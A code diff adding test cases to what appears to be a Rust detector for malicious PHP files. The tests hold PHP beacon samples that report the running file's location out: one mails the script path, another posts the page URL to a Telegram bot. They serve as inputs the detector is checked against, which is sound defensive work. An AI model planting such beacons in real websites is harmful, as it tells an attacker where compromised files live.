@@ -794,6 +794,16 @@ fn location_beacons_are_found() {
     let beacon =
         "<?php $m = \"$_SERVER[DOCUMENT_ROOT]\" . $_SERVER['SCRIPT_FILENAME']; mail('x@example.net', 'up', $m);";
     assert_eq!(found(beacon), [Why::ReportsItsLocation]);
+    // fresh78's `s2t.php`: the page's address posted to a chat bot when the file runs.
+    let bot = "<?php function tell($m) { $o = ['http' => ['method' => 'POST', 'content' => http_build_query(['text' => $m])]]; \
+               file_get_contents('https://api.telegram.org/bot123:abc/sendMessage', false, stream_context_create($o)); }\n\
+               $u = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']; tell(\"File was launched: $u\");";
+    assert_eq!(found(bot), [Why::ReportsItsLocation]);
+    // Near-miss: a notifier that tells the bot about an order, not where it runs.
+    assert!(
+        found(&bot.replace("$u = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];", "$u = $order_id;"))
+            .is_empty()
+    );
 }
 
 #[test]
